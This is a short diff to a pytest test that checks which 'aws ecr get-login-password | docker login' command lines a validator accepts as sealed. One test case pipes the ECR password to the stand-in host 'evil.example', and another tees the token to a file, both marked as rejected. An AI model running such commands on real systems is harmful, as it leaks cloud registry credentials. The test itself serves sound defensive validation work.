@@ -50,7 +50,7 @@ ECR = "123456789012.dkr.ecr.us-east-1.amazonaws.com"
 @pytest.mark.parametrize(("line", "sealed"), [
     (f"aws ecr get-login-password | docker login -u AWS --password-stdin {ECR}", 2),
     (f"aws ecr get-login-password | docker login -u AWS --password-stdin https://{ECR}/", 2),
-    (f"aws ecr get-login-password | docker login -u AWS --password-stdin evil.example", 0),
+    ("aws ecr get-login-password | docker login -u AWS --password-stdin evil.example", 0),
     (f"aws ecr get-login-password | tee t | docker login -u AWS --password-stdin {ECR}", 0),
     (f"aws ecr get-login-password 2>e | docker login -u AWS --password-stdin {ECR}", 0),
     (f"aws ecr get-login-password x | docker login -u AWS --password-stdin {ECR}", 0),
